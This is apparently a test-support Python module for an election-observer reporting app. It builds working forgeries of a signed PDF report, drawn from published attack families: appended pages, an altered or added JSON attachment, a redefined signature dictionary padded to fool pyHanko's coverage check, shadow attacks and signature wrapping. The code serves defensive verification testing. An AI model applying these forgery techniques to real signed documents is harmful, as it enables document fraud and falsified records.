"""Known attacks on PDF signatures, built by hand on a real signed report.

Each helper takes the signed bytes and returns a forged copy; none of them needs the signer's
key. They follow the published families (Mladenov et al., "1 Trillion Dollar Refund", 2019, and
Mainka et al., "Shadow Attacks", 2021):

- incremental saving: a revision appended after the signed one (a new page, a new or changed
  attachment);
- disguise: the same update also redefines the signature dictionary with the same /ByteRange and
  a zero-padded *literal* /Contents string sized so that "byte range + 2 x len(Contents) + 2"
  equals the new file size, which is all pyHanko's ENTIRE_FILE coverage check compares (the
  attack of issue 10);
- signature wrapping: the bytes between the two signed ranges hold something other than the
  hexadecimal /Contents, or the second signed range is moved;
- shadow attacks: an update that changes only objects the signed revision already has, or only
  its cross-reference table (pointing an object back at an older copy in the signed bytes).

An incremental update written here is what any PDF writer appends: the new objects, a
cross-reference table for them, and a trailer whose /Prev points at the previous table.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass
from io import BytesIO

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from observer_app.reports.report_json import ATTACHMENT_NAME, encode_document
from observer_app.reports.signing import _to_asn1_cert, _to_asn1_key, read_attachment

_STARTXREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF\s*\Z")


@dataclass(frozen=True)
class Signed:
    """Where things are in a signed report: what the attacks need to know."""

    pdf: bytes
    byte_range: tuple[int, int, int, int]
    signature_number: int  # object number of the signature dictionary
    contents: bytes  # the decoded /Contents (CMS plus its zero padding)
    pages_number: int
    page_numbers: tuple[int, ...]
    embedded_file_number: int  # the JSON attachment's stream
    names_number: int  # the array of the /EmbeddedFiles name tree that lists it

    @property
    def gap(self) -> tuple[int, int]:
        _zero, first_length, second_start, _second_length = self.byte_range
        return first_length, second_start


def inspect(pdf: bytes) -> Signed:
    reader = PdfFileReader(BytesIO(pdf), strict=True)
    field = reader.root["/AcroForm"]["/Fields"][0]
    signature_ref = field.get_object().raw_get("/V")
    signature = signature_ref.get_object()
    byte_range = tuple(int(n) for n in signature["/ByteRange"])
    assert len(byte_range) == 4
    pages = reader.root["/Pages"]
    names = reader.root["/Names"]["/EmbeddedFiles"].raw_get("/Names")
    assert isinstance(names, generic.IndirectObject), "the name array is its own object"
    entries = names.get_object()
    assert str(entries[0]) == ATTACHMENT_NAME
    file_ref = entries[1]["/EF"].raw_get("/F")
    return Signed(
        pdf=pdf,
        byte_range=(byte_range[0], byte_range[1], byte_range[2], byte_range[3]),
        signature_number=signature_ref.reference.idnum,
        contents=signature.raw_get("/Contents").original_bytes,
        pages_number=reader.root.raw_get("/Pages").reference.idnum,
        page_numbers=tuple(kid.reference.idnum for kid in pages.raw_get("/Kids")),
        embedded_file_number=file_ref.reference.idnum,
        names_number=names.reference.idnum,
    )


# -- raw PDF writing --------------------------------------------------------------------------


def serialise(obj: generic.PdfObject) -> bytes:
    out = BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def object_body(pdf: bytes, number: int, revision: int | None = None) -> generic.PdfObject:
    """Object `number` as the file (or one of its revisions) defines it."""
    reader = PdfFileReader(BytesIO(pdf), strict=True)
    ref = generic.Reference(number, 0)
    if revision is None:
        return reader.get_object(ref)
    return reader.get_historical_resolver(revision).get_object(ref)


def object_offset(pdf: bytes, number: int, revision: int) -> int:
    """Where revision `revision` keeps object `number` (an older copy, for the shadow attacks)."""
    reader = PdfFileReader(BytesIO(pdf), strict=True)
    section = reader.xrefs._xref_sections[revision]  # no public accessor for old offsets
    offset = section.xref_data.try_resolve(generic.Reference(number, 0))
    assert isinstance(offset, int)
    return offset


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def incremental_update(
    pdf: bytes,
    objects: Mapping[int, bytes],
    moved: Mapping[int, int] | None = None,
) -> bytes:
    """`pdf` with one appended revision: `objects` (number -> body) written anew, and `moved`
    (number -> offset) re-pointed at bytes already in the file, without writing anything."""
    match = _STARTXREF.search(pdf)
    assert match is not None
    previous = int(match[1])
    reader = PdfFileReader(BytesIO(pdf), strict=True)
    trailer = reader.trailer
    body = bytearray(b"\n")
    offsets = dict(moved or {})
    for number, content in objects.items():
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref_at = len(pdf) + len(body)
    body += b"xref\n"
    for number in sorted(offsets):
        body += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(int(trailer["/Size"]), max(offsets) + 1)
    body += (
        b"trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size,
            serialise(trailer.raw_get("/Root")),
            serialise(trailer.raw_get("/Info")),
            serialise(trailer["/ID"]),
            previous,
            xref_at,
        )
    )
    return pdf + bytes(body)


def _literal(data: bytes) -> bytes:
    """A PDF literal string holding `data` byte for byte (only the delimiters escaped)."""
    escaped = bytearray(b"(")
    for byte in data:
        if byte in b"()\\":
            escaped += b"\\" + bytes([byte])
        elif byte == 0x0D:
            escaped += b"\\r"
        else:
            escaped.append(byte)
    return bytes(escaped + b")")


def _signature_dictionary(signed: Signed, contents: bytes) -> bytes:
    original = object_body(signed.pdf, signed.signature_number)
    assert isinstance(original, generic.DictionaryObject)
    text = serialise(original)
    hex_form = re.search(rb"/Contents\s*<[0-9A-Fa-f]*>", text)
    assert hex_form is not None
    return text[: hex_form.start()] + b"/Contents " + _literal(contents) + text[hex_form.end() :]


def disguised_update(signed: Signed, objects: Mapping[int, bytes]) -> bytes:
    """The update, plus the signature dictionary redefined (same /ByteRange) with a padded
    literal /Contents so that pyHanko's length arithmetic says "covers the entire file"."""
    _zero, first_length, _second_start, second_length = signed.byte_range
    padding = 0
    for _attempt in range(8):  # the length is linear in the padding; a few rounds settle it
        contents = signed.contents + b"\x00" * padding
        forged = incremental_update(
            signed.pdf,
            {**objects, signed.signature_number: _signature_dictionary(signed, contents)},
        )
        expected = first_length + second_length + 2 * len(contents) + 2
        if len(forged) == expected:
            return forged
        padding += len(forged) - expected
        assert padding >= 0
    raise AssertionError("no padding makes the sizes agree")


# -- the attack payloads ------------------------------------------------------------------------


def new_page(signed: Signed) -> dict[int, bytes]:
    """A seventh page saying something the observer never wrote."""
    size = _size(signed.pdf)
    page, content, font = size, size + 1, size + 2
    pages = object_body(signed.pdf, signed.pages_number)
    assert isinstance(pages, generic.DictionaryObject)
    kids = b" ".join(b"%d 0 R" % n for n in (*signed.page_numbers, page))
    text = b"BT /F1 24 Tf 72 700 Td (No incidents were observed.) Tj ET"
    return {
        signed.pages_number: b"<< /Type /Pages /Kids [ %s ] /Count %d >>"
        % (kids, len(signed.page_numbers) + 1),
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (signed.pages_number, content, font),
        content: stream(b"", text),
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def forged_data(signed: Signed) -> bytes:
    """The report's own JSON with every incident removed: it still names the same report."""
    data = read_attachment(signed.pdf, ATTACHMENT_NAME)
    assert data is not None
    document = json.loads(data)
    for station in document["stations"]:
        station["incidents"] = []
    return encode_document(document)


def changed_attachment(signed: Signed) -> dict[int, bytes]:
    body = stream(b"/Type /EmbeddedFile /Subtype /application#2Fjson", forged_data(signed))
    return {signed.embedded_file_number: body}


def new_attachment(signed: Signed) -> dict[int, bytes]:
    """A second embedded file listed next to the report's data."""
    size = _size(signed.pdf)
    spec, data = size, size + 1
    names = object_body(signed.pdf, signed.names_number)
    assert isinstance(names, generic.ArrayObject)
    listed = serialise(names)
    return {
        signed.names_number: b"[ %s (notes.txt) %d 0 R ]" % (listed.strip()[1:-1], spec),
        spec: b"<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F %d 0 R >> >>" % data,
        data: stream(b"/Type /EmbeddedFile", b"The count was correct."),
    }


def issue_attack(signed: Signed) -> bytes:
    """Issue 10 as reported: a page added, the JSON replaced, the signature dictionary redefined."""
    return disguised_update(signed, {**new_page(signed), **changed_attachment(signed)})


def replaced_page_text(signed: Signed) -> dict[int, bytes]:
    """Shadow "replace": page 1's existing content stream given other text."""
    page = object_body(signed.pdf, signed.page_numbers[0])
    assert isinstance(page, generic.DictionaryObject)
    content = page.raw_get("/Contents")
    assert isinstance(content, generic.IndirectObject)
    text = b"BT /F1 24 Tf 72 700 Td (Nothing to report.) Tj ET"
    return {content.reference.idnum: stream(b"", text)}


def hidden_page(signed: Signed) -> dict[int, bytes]:
    """Shadow "hide": the page tree redefined without the last page (nothing new is added)."""
    kept = signed.page_numbers[:-1]
    kids = b" ".join(b"%d 0 R" % n for n in kept)
    return {signed.pages_number: b"<< /Type /Pages /Kids [ %s ] /Count %d >>" % (kids, len(kept))}


def swapped_page_content(signed: Signed) -> dict[int, bytes]:
    """Shadow "hide-and-replace": page 1 shows page 2's content, which the signed revision
    already holds; only the existing page object changes."""
    first = object_body(signed.pdf, signed.page_numbers[0])
    second = object_body(signed.pdf, signed.page_numbers[1])
    assert isinstance(first, generic.DictionaryObject)
    assert isinstance(second, generic.DictionaryObject)
    text = serialise(first)
    own = serialise(first.raw_get("/Contents"))
    other = serialise(second.raw_get("/Contents"))
    assert own in text and own != other
    return {signed.page_numbers[0]: text.replace(b"/Contents " + own, b"/Contents " + other, 1)}


def tiny_change(signed: Signed) -> dict[int, bytes]:
    """The smallest update there is: one existing entry of the document information changed."""
    reader = PdfFileReader(BytesIO(signed.pdf), strict=True)
    info_ref = reader.trailer.raw_get("/Info")
    info = info_ref.get_object()
    text = serialise(info)
    assert b"/Trapped /False" in text
    return {info_ref.reference.idnum: text.replace(b"/Trapped /False", b"/Trapped /True")}


def older_page_copy(signed: Signed) -> tuple[int, int]:
    """Shadow "hide" without a single new object: page 1 pointed back at its copy from before
    signing (which has no signature widget), by a cross-reference entry alone."""
    number = signed.page_numbers[0]
    return number, object_offset(signed.pdf, number, revision=0)


def xref_only_update(signed: Signed) -> bytes:
    number, offset = older_page_copy(signed)
    return incremental_update(signed.pdf, {}, moved={number: offset})


# -- signature wrapping ---------------------------------------------------------------------


def literal_in_gap(signed: Signed) -> bytes:
    """No new revision: the gap holds a literal /Contents half its size, then other bytes."""
    start, end = signed.gap
    gap_length = end - start
    content_length = (gap_length - 2) // 2
    assert len(signed.contents) >= content_length
    contents = signed.contents[:content_length]
    literal = _literal(contents)
    filler = b" " * (gap_length - len(literal))
    forged = signed.pdf[:start] + literal + filler + signed.pdf[end:]
    assert len(forged) == len(signed.pdf)
    return forged


def gap_with_object(signed: Signed) -> bytes:
    """The hexadecimal /Contents shortened to its DER length; the freed bytes of the gap carry
    another dictionary entry (the file size is unchanged)."""
    start, end = signed.gap
    der = _der_length(signed.contents)
    hex_form = b"<" + signed.contents[:der].hex().upper().encode() + b">"
    extra = b" /Note (added after signing) "
    filler = b" " * (end - start - len(hex_form) - len(extra))
    return signed.pdf[:start] + hex_form + extra + filler + signed.pdf[end:]


def relocated_second_range(signed: Signed) -> bytes:
    """Content inserted between the gap and the second signed range, which therefore moves."""
    _start, end = signed.gap
    inserted = b"\n99 0 obj\n(inserted)\nendobj\n"
    return signed.pdf[:end] + inserted + signed.pdf[end:]


def _der_length(data: bytes) -> int:
    """The length of the DER value at the start of `data` (a SEQUENCE with a long-form size)."""
    assert data[0] == 0x30
    if data[1] < 0x80:
        return 2 + data[1]
    size_bytes = data[1] & 0x7F
    return 2 + size_bytes + int.from_bytes(data[2 : 2 + size_bytes], "big")


def _size(pdf: bytes) -> int:
    reader = PdfFileReader(BytesIO(pdf), strict=True)
    return int(reader.trailer["/Size"])


# -- a signer's own odd file ----------------------------------------------------------------


def signed_over_later_revision(
    signed: Signed,
    objects: Mapping[int, bytes],
    key: ec.EllipticCurvePrivateKey,
    cert: x509.Certificate,
) -> bytes:
    """The report with `objects` appended in a revision of their own, then signed anew (with
    `key`) by the same signature dictionary, its /ByteRange stretched over that later revision.

    Not a forgery without the key, but the layout a careless or hostile signer could make: the
    signature covers every byte, yet the revision it belongs to is not the file's last, so the
    pages and data a reader sees are not those of the signed revision. With no `objects` it is
    a plain re-signature of the same bytes (the control).
    """
    base = incremental_update(signed.pdf, objects) if objects else signed.pdf
    _zero, first_length, second_start, second_length = signed.byte_range
    old = b"/ByteRange [0 %d %d %d]" % (first_length, second_start, second_length)
    at = base.index(old, second_start)
    new = b"/ByteRange [0 %d %d %d]" % (first_length, second_start, len(base) - second_start)
    room = len(old) + len(base[at + len(old) :]) - len(base[at + len(old) :].lstrip(b" "))
    assert len(new) <= room, "pyHanko leaves spaces after the byte range for this"
    stretched = base[:at] + new.ljust(room) + base[at + room :]
    digest = hashlib.sha256(stretched[:first_length] + stretched[second_start:]).digest()
    signer = signers.SimpleSigner(
        signing_cert=_to_asn1_cert(cert),
        signing_key=_to_asn1_key(key),
        cert_registry=SimpleCertificateStore.from_certs([]),
    )
    cms = asyncio.run(signer.async_sign(digest, "sha256", use_pades=True)).dump()
    digits = cms.hex().upper().encode().ljust(second_start - first_length - 2, b"0")
    assert len(digits) == second_start - first_length - 2
    return stretched[:first_length] + b"<" + digits + b">" + stretched[second_start:]
